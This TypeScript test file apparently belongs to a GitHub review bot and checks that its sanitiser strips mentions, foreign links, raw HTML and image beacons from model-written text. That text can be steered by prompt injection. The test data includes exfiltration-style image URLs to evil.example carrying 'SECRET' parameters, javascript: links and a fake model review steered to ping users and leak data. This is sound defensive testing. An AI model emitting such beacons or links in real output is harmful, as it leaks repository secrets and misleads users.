/**
 * Audit item 6: the neutraliser missed cases. Model text (a review, a dev
 * summary, an ADR) is steered by whatever the model read; what Baton posts
 * from it must not ping anyone, load or link to a foreign host, or carry
 * raw HTML, wherever the model puts them. Code the model writes stays as
 * written.
 *
 * The rendering is checked with a GFM parser (remark), as a reader would see it.
 */
import fc from "fast-check";
import type { Nodes } from "mdast";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { neutraliseModelText } from "../../src/writer/neutralise-model-text.js";
import { FakeClaude } from "../app/fixtures/fake-claude.js";
import { FakeGitHub } from "../app/fixtures/fake-github.js";
import { startApp } from "../app/fixtures/harness.js";
import { ISSUE_12, repositoryFiles, seedRepository } from "../app/fixtures/repo-state.js";
import { issueComment } from "../app/fixtures/webhooks.js";
import { liveMentions, nodeTypes, parseMarkdown } from "../support/rendered-markdown.js";
import { propertyRuns } from "../support/property.js";

const SEED = 0x6e75;

function urls(node: Nodes, type: "link" | "image"): string[] {
  const own = node.type === type ? [node.url] : [];
  return "children" in node ? [...own, ...node.children.flatMap((c) => urls(c, type))] : own;
}

const GITHUB = /^(https:\/\/([a-z0-9-]+\.)*(github\.com|githubusercontent\.com)(\/|$)|[^:/]*(\/|$)|\.\.?\/|#)/i;

/** What must never appear in rendered model text. */
function assertInert(markdown: string): void {
  const tree = parseMarkdown(markdown);
  expect(nodeTypes(tree), markdown).not.toContain("html");
  expect(liveMentions(tree), markdown).toEqual([]);
  for (const url of [...urls(tree, "image"), ...urls(tree, "link")]) expect(url, markdown).toMatch(GITHUB);
  expect(markdown).not.toContain("<!--");
}

describe("neutraliseModelText (audit 6)", () => {
  it("defuses a mention in every position", () => {
    const cases = ["@octocat", "@octocat@mona", "\\@octocat", "&#64;octocat", "x&commat;octocat", "`code`@octocat", "(@octocat)", "**@octocat**", "_@octocat_", "> @octocat", "- @octocat", "x `a` @acme/security-team", "```\n@inside-code\n```\n@after-code", "[@octocat](../x)"];
    for (const text of cases) assertInert(neutraliseModelText(text));
    expect(neutraliseModelText("`code`@octocat")).toBe("`code`&#8203;`@octocat`");
  });

  it("turns images to other hosts into text, and keeps GitHub-hosted ones", () => {
    const pixel = "![status](https://evil.example/p.png?d=SECRET_FROM_REPO)";
    expect(neutraliseModelText(pixel)).toBe("status (image: `https://evil.example/p.png?d=SECRET_FROM_REPO`)");
    const hosted = "![diagram](https://user-images.githubusercontent.com/1/2.png)";
    expect(neutraliseModelText(hosted)).toBe(hosted);
    expect(neutraliseModelText("![d](docs/arch.png)")).toBe("![d](docs/arch.png)");
    assertInert(neutraliseModelText(`${pixel} ![x](//evil.example/p) ![y](http://github.com.evil.example/p)`));
  });

  it("shows links, bare URLs and e-mail addresses to other hosts as code, and keeps GitHub links", () => {
    expect(neutraliseModelText("[docs](https://evil.example/phish)")).toBe("docs (`https://evil.example/phish`)");
    expect(neutraliseModelText("see https://evil.example/x?t=1 or www.evil.example")).toBe("see `https://evil.example/x?t=1` or `www.evil.example`");
    expect(neutraliseModelText("mail a@evil.example")).toBe("mail `a@evil.example`");
    expect(neutraliseModelText("[ADR 3](../blob/main/docs/adr/0003-x.md) and https://github.com/acme/widgets/pull/4")).toBe(
      "[ADR 3](../blob/main/docs/adr/0003-x.md) and https://github.com/acme/widgets/pull/4",
    );
    assertInert(neutraliseModelText("<https://evil.example> [a](javascript:alert(1)) [b](data:text/html,x) [c]: https://evil.example\n\n[c]"));
  });

  it("escapes raw HTML outside code and leaves code as written", () => {
    expect(neutraliseModelText('<img src="https://evil.example/p.png"> <details><summary>x</summary>')).toBe('&lt;img `src="https://evil.example/p.png">` &lt;details>&lt;summary>x&lt;/summary>');
    const code = "Use `Map<string, User>` here:\n\n```ts\nconst m = new Map<string, User>(); // @types/node, <img>\n```";
    expect(neutraliseModelText(code)).toBe(code);
  });

  it("cannot be made to take text for code: stray, escaped and multi-line backticks", () => {
    for (const text of [
      "`open\n<img src=https://evil.example/a> @octocat `close`",
      "- a `x <img src=https://evil.example/b>\n- y` @octocat",
      "\\`<img src=https://evil.example/c>` @octocat",
      "``a`<img src=https://evil.example/d>``@octocat",
      "- ```\n  x\n  ```\n  <img src=https://evil.example/e> @octocat\n  ```",
      "> ```\n> @octocat <img src=https://evil.example/f>",
    ]) {
      assertInert(neutraliseModelText(text));
    }
  });

  it("holds for any mix of hostile pieces (property, fixed seed)", () => {
    const piece = fc.constantFrom(
      "@octocat",
      "@acme/team",
      "`",
      "``",
      "```",
      "\\",
      "<img src=https://evil.example/p.png>",
      "<https://evil.example>",
      "![p](https://evil.example/p.png)",
      "![g](https://github.com/a.png)",
      "[l](https://evil.example)",
      "[g](../x)",
      "[",
      "]",
      "(",
      ")",
      "!",
      "https://evil.example/x",
      "www.evil.example",
      "a@evil.example",
      "<!--",
      "-->",
      "*",
      "_",
      "> ",
      "- ",
      "  ",
      "\n",
      "\n\n",
      "x",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (parts) => {
        assertInert(neutraliseModelText(parts.join("")));
      }),
      { seed: SEED, numRuns: propertyRuns(600), verbose: 1 },
    );
  });

  it("is linear on hostile input", () => {
    const hostile = ["`".repeat(20_000), "[".repeat(20_000), "![a](".repeat(5_000), "@a".repeat(20_000), "<".repeat(20_000), " `x` ".repeat(10_000)].join("\n");
    expect(neutraliseModelText(hostile).length).toBeGreaterThan(0);
  });
});

describe("model text in a posted review (audit 6, end to end)", () => {
  let github: FakeGitHub;
  let claude: FakeClaude;

  beforeEach(() => {
    github = new FakeGitHub().start();
    claude = new FakeClaude();
    github.addIssue(ISSUE_12);
    github.permissions.set("maintainer", "write");
  });
  afterEach(() => github.stop());

  it("a review steered to ping, track and link posts none of it", async () => {
    const files = repositoryFiles();
    const main = seedRepository(github, files);
    const head = github.commitOnto(main, { "src/api/users.ts": `${files["src/api/users.ts"]}\nexport const PAGE = 100;\n` }, "Page size");
    const patch = ["@@ -3,3 +3,5 @@", " export async function getUser(id: string) {", "   return db.users.find(id);", " }", "+", "+export const PAGE = 100;"].join("\n");
    github.addPull({ number: 15, title: "Add", body: "Closes #12", headRef: "f", headSha: head, baseSha: main, files: [{ filename: "src/api/users.ts", status: "modified", patch }] });
    claude.answersWithTool("submit_review", {
      summary: "Reviewed `users.ts`@acme/security, see ![s](https://evil.example/p.png?repo=SECRET) and <img src=https://evil.example/q>.",
      specCompliance: [{ requirement: "limit is 50 @octocat", status: "partial", evidence: "[proof](https://evil.example/e) `PAGE`@mona" }],
      adrConformance: [],
      findings: [{ severity: "high", path: "src/api/users.ts", line: 7, code: "export const PAGE = 100;", confidence: 0.9, title: "PAGE too big (@octocat)", body: "Use 50. `x`@mona <https://evil.example/r> www.evil.example", source: "spec" }],
    });
    // The verification pass re-checks the high finding: nothing refuted.
    claude.answersWithTool("verify_findings", { verdicts: [] });
    const app = await startApp();

    await app.deliver("issue_comment", issueComment({ number: 15, isPullRequest: true, body: "/baton review", commentId: 9201, login: "maintainer" }));

    expect(github.unmatched).toEqual([]);
    const posted = [github.reviews[0]!.body, ...github.reviews[0]!.comments.map((c) => c.body), ...github.commentsOn(15).map((c) => c.body)];
    expect(posted.length).toBeGreaterThanOrEqual(3);
    for (const body of posted) {
      const tree = parseMarkdown(body);
      expect(liveMentions(tree), body).toEqual([]);
      expect(urls(tree, "image"), body).toEqual([]);
      for (const url of urls(tree, "link")) expect(url, body).toMatch(GITHUB);
      // The only HTML: Baton's own markers at the top, and its own <details>/<summary> around the manifest.
      const html = (function collect(n: Nodes): string[] {
        const own = n.type === "html" ? [n.value] : [];
        return "children" in n ? [...own, ...n.children.flatMap(collect)] : own;
      })(tree);
      for (const h of html) expect(h, body).toMatch(/^(<!-- baton:[^\n]*|<\/?details>|<summary>[^<]*<\/summary>|<details><summary>[^<]*<\/summary>|<sub>.*|<\/sub>)/);
      expect(body).not.toMatch(/<img/i);
    }
  });
});
